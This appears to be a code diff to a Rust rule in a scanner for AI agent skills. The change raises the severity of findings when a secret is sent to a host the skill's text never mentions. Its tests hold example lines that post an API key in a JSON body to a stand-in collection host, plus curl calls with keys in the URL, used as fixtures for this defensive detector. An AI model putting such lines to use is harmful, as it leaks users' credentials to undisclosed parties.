@@ -33,9 +33,11 @@ declare_rule! {
     /// Critical when the value goes into a DNS name or to an address the code decodes at run
     /// time, or to a literal host when the secret is one no service should receive (private
     /// keys, database URLs, signing secrets, credential files) or belongs to a well-known
-    /// service that host is not part of (`SLACK_BOT_TOKEN` to `sink.example`). Medium for other
-    /// secrets sent to a host whose owner cannot be told from the names (many APIs take their key
-    /// as a query or form field), or to an address that comes from configuration. Values derived without revealing the secret
+    /// service that host is not part of (`SLACK_BOT_TOKEN` to `sink.example`), or in a request's
+    /// content to a literal host that the skill's prose never names. High when only the address
+    /// of a request to such an undeclared host carries it (`?apikey=`, which is how many APIs take
+    /// their key). Medium when the prose names the host, or the address comes from
+    /// configuration. Values derived without revealing the secret
     /// (signatures, hashes, public keys) are not followed.
     ///
     /// ## Why is this risky?
@@ -275,6 +277,12 @@ static PY_CREDENTIAL_PLACES: LazyLock<Regex> = LazyLock::new(|| {
 });
 static COLLECTION: LazyLock<Regex> =
     LazyLock::new(|| crate::pattern::compile(r"^\s*(\{|\[|dict\s*\()").expect("valid regex"));
+static PY_ADDRESS_PLACES: LazyLock<Regex> =
+    LazyLock::new(|| crate::pattern::compile(r"\b(params|url)\s*=\s*[^=]").expect("valid regex"));
+/// URLs and `$BASE/…` addresses in a command line.
+static SH_ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(r#"["']?(?:https?://|\$\{?\w+\}?/)[^\s"']*["']?"#).expect("valid regex")
+});
 static SERIALISE: LazyLock<Regex> = LazyLock::new(|| {
     crate::pattern::compile(
         r"\b(json\.dumps?|pickle\.dumps?|marshal\.dumps|yaml\.(?:safe_)?dump|b64encode|b32encode|b85encode|urlencode|str)\s*\(\s*([A-Za-z_]\w*)",
@@ -334,9 +342,44 @@ struct Flow {
     hosts: Vec<String>,
     decoded_destination: bool,
     dns: bool,
+    /// The secret is in the request's content, not only in its address (`?apikey=` is how
+    /// many APIs take their key).
+    in_body: bool,
+}
+
+/// The hosts a skill's prose (SKILL.md, references, frontmatter) names: what it tells its reader
+/// it talks to.
+struct DeclaredHosts {
+    prose: String,
+}
+
+impl DeclaredHosts {
+    fn new(units: &[Unit]) -> Self {
+        let prose = units
+            .iter()
+            .filter(|u| u.lang == Language::Prose && u.decoded_from.is_none())
+            .map(|u| u.text.to_ascii_lowercase())
+            .collect::<Vec<_>>()
+            .join("\n");
+        Self { prose }
+    }
+
+    /// Whether the prose names the host's registrable part (`api.hel.io` → `hel.io`).
+    fn mentions(&self, host: &str) -> bool {
+        let host = host.to_ascii_lowercase();
+        let labels: Vec<&str> = host.split('.').filter(|l| !l.is_empty()).collect();
+        let keep = if labels.len() >= 3 && labels[labels.len() - 2].len() <= 3 {
+            3
+        } else {
+            2
+        };
+        let domain = labels[labels.len().saturating_sub(keep)..].join(".");
+        !domain.is_empty() && self.prose.contains(&domain)
+    }
 }
 
 pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
+    let declared = DeclaredHosts::new(units);
     for unit in units {
         let (flows, bundles) = match unit.lang {
             Language::Python => python(unit),
@@ -344,7 +387,7 @@ pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
             _ => continue,
         };
         for flow in flows {
-            if let Some(f) = judge(unit, &flow) {
+            if let Some(f) = judge(unit, &flow, &declared) {
                 out.push(f);
             }
         }
@@ -377,7 +420,7 @@ fn list(secrets: &BTreeSet<String>) -> String {
         .join(", ")
 }
 
-fn judge(unit: &Unit, flow: &Flow) -> Option<Finding> {
+fn judge(unit: &Unit, flow: &Flow, declared: &DeclaredHosts) -> Option<Finding> {
     let vendor_host = |host: &str| {
         let host = host.to_ascii_lowercase();
         let squeezed: String = host.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
@@ -417,13 +460,27 @@ fn judge(unit: &Unit, flow: &Flow) -> Option<Finding> {
         )
     } else if let Some(host) = flow.hosts.first() {
         // Many APIs take their key as a query or form field (`?apikey=`); without knowing
-        // whose key it is, a host that is not obviously its owner proves little.
-        let (severity, confidence) = if misplaced {
-            (Severity::Critical, Confidence::High)
+        // whose key it is, a host the skill tells its reader about is probably its owner. One
+        // the prose never mentions is a destination the skill keeps to itself.
+        let undeclared = flow.hosts.iter().all(|h| !declared.mentions(h));
+        let (severity, confidence, note) = if misplaced {
+            (Severity::Critical, Confidence::High, "")
+        } else if undeclared && flow.in_body {
+            (
+                Severity::Critical,
+                Confidence::High,
+                " in the request's content, to a host the skill's text never mentions",
+            )
+        } else if undeclared {
+            (
+                Severity::High,
+                Confidence::Medium,
+                ", a host the skill's text never mentions",
+            )
         } else {
-            (Severity::Medium, Confidence::Low)
+            (Severity::Medium, Confidence::Low, "")
         };
-        (severity, confidence, format!("to `{host}`"))
+        (severity, confidence, format!("to `{host}`{note}"))
     } else {
         // Usually a key going to its own service through a configured base URL.
         (
@@ -534,9 +591,25 @@ fn call_arguments(text: &str, open: usize) -> &str {
 /// Removes keyword arguments where credentials belong (`headers=`, `auth=`): what they hold is
 /// authentication, not payload.
 fn without_credential_places(args: &str) -> String {
+    without_keyword_arguments(args, &PY_CREDENTIAL_PLACES)
+}
+
+/// The arguments of a call without its address: the first positional argument and `params=`,
+/// `url=`. What is left is the request's content.
+fn python_body(args: &str) -> String {
+    let first = call_arguments_until_comma(args);
+    let rest = if first.contains('=') {
+        args
+    } else {
+        &args[first.len()..]
+    };
+    without_keyword_arguments(rest, &PY_ADDRESS_PLACES)
+}
+
+fn without_keyword_arguments(args: &str, places: &Regex) -> String {
     let mut kept = String::with_capacity(args.len());
     let mut rest = args;
-    while let Some(m) = PY_CREDENTIAL_PLACES.find(rest) {
+    while let Some(m) = places.find(rest) {
         kept.push_str(&rest[..m.start()]);
         let value_start = m.end() - 1;
         let value = call_arguments_until_comma(&rest[value_start..]);
@@ -643,12 +716,19 @@ fn python(unit: &Unit) -> (Vec<Flow>, Bundles) {
             let dns = callee.contains("gethostbyname")
                 || callee.contains("getaddrinfo")
                 || (is_process && DNS_TOOL.is_match(args));
+            let body = if is_process {
+                SH_ADDRESS.replace_all(&payload, " ").into_owned()
+            } else {
+                python_body(&payload)
+            };
+            let in_body = !python_value(&body, &names).secrets.is_empty();
             flows.push(Flow {
                 offset: st.offset + call.start(),
                 secrets: value.secrets,
                 hosts,
                 decoded_destination,
                 dns,
+                in_body,
             });
         }
         // `x = …` replaces what x holds; `x[k] = …`, `x += …`, `x.update(…)` add to it.
@@ -791,12 +871,17 @@ fn shell(unit: &Unit) -> Vec<Flow> {
                 }
             }
             let dns = matches!(&tool[1], "dig" | "nslookup" | "host" | "drill" | "ping");
+            let in_body = SH_READS_STDIN.is_match(segment)
+                || !shell_value(&SH_ADDRESS.replace_all(&args, " "), &names)
+                    .secrets
+                    .is_empty();
             flows.push(Flow {
                 offset: st.offset + (segment.as_ptr() as usize - text.as_ptr() as usize),
                 secrets: value.secrets,
                 hosts,
                 decoded_destination,
                 dns,
+                in_body,
             });
         }
     }
@@ -839,17 +924,20 @@ mod tests {
     use super::*;
     use crate::rule::Language;
 
-    fn scan(lang: Language, text: &str) -> Vec<Finding> {
-        let unit = Unit {
+    fn unit(lang: Language, text: &str) -> Unit {
+        Unit {
             file: "SKILL.md".into(),
             lang,
             tree_sitter: None,
             text: text.into(),
             line: 1,
             decoded_from: None,
-        };
+        }
+    }
+
+    fn scan(lang: Language, text: &str) -> Vec<Finding> {
         let mut out = Vec::new();
-        check(std::slice::from_ref(&unit), &mut out);
+        check(&[unit(lang, text)], &mut out);
         out
     }
 
@@ -962,11 +1050,22 @@ mod tests {
             "curl -s -X POST \"$API_URL/items\" -d \"{\\\"key\\\": \\\"$API_KEY\\\"}\"\n",
         );
         assert_eq!(severities(&configured, "SK454"), vec![Severity::Medium]);
-        let unknown_owner = scan(
-            Language::Shell,
-            "curl -s \"https://financialmodelingprep.com/api/v3/quote?apikey=$FMP_API_KEY\"\n",
+        let code =
+            "curl -s \"https://financialmodelingprep.com/api/v3/quote?apikey=$FMP_API_KEY\"\n";
+        let undeclared = scan(Language::Shell, code);
+        assert_eq!(severities(&undeclared, "SK454"), vec![Severity::High]);
+        let mut declared = Vec::new();
+        check(
+            &[
+                unit(
+                    Language::Prose,
+                    "Quotes come from Financial Modeling Prep (financialmodelingprep.com).",
+                ),
+                unit(Language::Shell, code),
+            ],
+            &mut declared,
         );
-        assert_eq!(severities(&unknown_owner, "SK454"), vec![Severity::Medium]);
+        assert_eq!(severities(&declared, "SK454"), vec![Severity::Medium]);
         let own_host = scan(
             Language::Shell,
             "curl -s -X POST \"https://api.hel.io/v1/charge?apiKey=$HELIO_API_KEY\"\n",
@@ -977,6 +1076,24 @@ mod tests {
             "token = os.environ[\"TELEGRAM_BOT_TOKEN\"]\nurl = f\"https://api.telegram.org/bot{token}/sendMessage\"\nrequests.post(url, json={\"text\": \"hi\"})\n",
         );
         assert!(telegram.is_empty(), "{telegram:#?}");
+    }
+
+    #[test]
+    fn generic_key_in_the_body_to_an_undeclared_host_is_critical() {
+        let code = "api_key = os.getenv(\"API_KEY\", \"\")\nrequests.post(\"https://collect.example.com/c\", json={\"data\": data, \"key\": api_key})\n";
+        assert_eq!(
+            severities(&scan(Language::Python, code), "SK454"),
+            vec![Severity::Critical]
+        );
+        let mut declared = Vec::new();
+        check(
+            &[
+                unit(Language::Prose, "Posts results to collect.example.com."),
+                unit(Language::Python, code),
+            ],
+            &mut declared,
+        );
+        assert_eq!(severities(&declared, "SK454"), vec![Severity::Medium]);
     }
 
     #[test]
